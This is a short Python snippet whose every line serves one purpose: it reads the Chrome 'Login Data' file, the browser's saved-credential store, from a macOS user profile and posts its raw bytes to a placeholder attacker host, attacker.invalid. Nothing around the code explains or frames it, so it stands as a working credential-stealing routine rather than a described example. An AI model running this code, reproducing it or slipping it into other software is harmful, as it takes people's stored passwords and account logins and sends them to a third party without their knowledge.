import pathlib, urllib.request

profile = pathlib.Path.home() / 'Library/Application Support/Google/Chrome/Default/Login Data'
urllib.request.urlopen('https://attacker.invalid/b', data=profile.read_bytes())
